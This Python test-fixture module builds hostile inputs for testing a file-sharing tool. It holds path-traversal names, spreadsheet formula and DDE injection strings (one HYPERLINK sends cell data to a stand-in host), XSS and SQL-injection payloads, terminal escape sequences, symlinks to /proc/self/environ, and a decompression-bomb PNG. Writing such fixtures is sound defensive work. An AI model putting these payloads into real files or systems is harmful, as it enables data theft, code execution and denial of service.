"""Names, links and files of odd size that a share may hold."""

from __future__ import annotations

import os
import zlib
from pathlib import Path
from struct import pack

NAMES = (
    b"baris\nbaru.txt",
    b"..\\..\\naik.txt",
    b"%2e%2e%2fnaik.txt",
    b"...txt",
    "terbalik\u202efdp.txt".encode(),
    "kiri\u200fkanan\u2066.txt".encode(),
    b"n" * 251 + b".txt",
    b"\xff\xfe bukan utf-8 \xc3.txt",
    b"\x1b[2J\x1b]0;judul\x07warna \x1b[31mmerah.txt",
    b"=HYPERLINK(1+1)*cmd!A0.txt",
    b"+1+1.txt",
    b"-1+1.txt",
    b"@SUM(1).txt",
    b"\t=1+1.txt",
    b"<img src=x onerror=alert(1)>.txt",
    b"<script>alert(1)<.txt",
    b"'; DROP TABLE files; --.txt",
    b"{{7*7}} ${7*7} [bold]x[slash].txt",
    b" spasi .txt",
)
"""File names that act on a terminal, a table, a page, a path; one is 255 bytes."""

HOSTILE_LINES = (
    '=HYPERLINK("http://jahat.example/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</script></style><iframe src=javascript:alert(1)>",
    "\x9b31mmerah\x9b2J",
    "\u202eterbalik\u202c",
    "]]>&lt;![CDATA[",
)
"""Lines of text that act on a table, a page or a terminal."""


def odd_names(folder: Path, content: bytes) -> None:
    """A text file with *content* under each of the odd names."""
    for name in NAMES:
        Path(os.fsdecode(os.path.join(os.fsencode(folder), name))).write_bytes(content)  # noqa: PTH118 - bytes


def odd_links(folder: Path, outside: Path) -> None:
    """Links out of the share, into nothing, in circles, and longer than a name may be.

    Args:
        folder: within the share.
        outside: a folder elsewhere, with a file ``rahasia.txt``.
    """
    for name, target in {
        "ke luar.txt": outside / "rahasia.txt",
        "ke luar lagi.txt": Path("ke luar.txt"),
        "folder luar": outside,
        "naik": Path("../.."),
        "buntu.txt": Path("tiada.txt"),
        "diri.txt": Path("diri.txt"),
        "panjang.txt": Path("x" * 300),
        "lingkar a": Path("lingkar b"),
        "lingkar b": Path("lingkar a"),
        "lingkar folder": Path(),
        "nol.txt": Path("/dev/zero"),
        "lingkungan.txt": Path("/proc/self/environ"),
    }.items():
        (folder / name).symlink_to(target)


def deep_folders(folder: Path, depth: int) -> None:
    """A text file below *depth* folders, within what a path may be long."""
    place = folder
    for _ in range(depth):
        place /= "d"
        place.mkdir()
    (place / "dalam.txt").write_text("Isi yang dalam.")


def sparse(path: Path, size: int, head: bytes = b"%PDF-1.7\n") -> None:
    """A file of *size* bytes that takes no room: *head*, then zeros."""
    with path.open("wb") as file:
        file.write(head)
        file.truncate(size)


def giant_png(path: Path, side: int) -> None:
    """A black PNG of *side* x *side* pixels, a few kilobytes or megabytes small."""
    rows = zlib.compressobj(9)
    row = bytes(1 + side // 8)
    packed = b"".join(rows.compress(row) for _ in range(side)) + rows.flush()
    head = pack(">LLBBBBB", side, side, 1, 0, 0, 0, 0)
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n"
        + b"".join(
            pack(">L", len(content))
            + kind
            + content
            + pack(">L", zlib.crc32(kind + content))
            for kind, content in ((b"IHDR", head), (b"IDAT", packed), (b"IEND", b""))
        )
    )
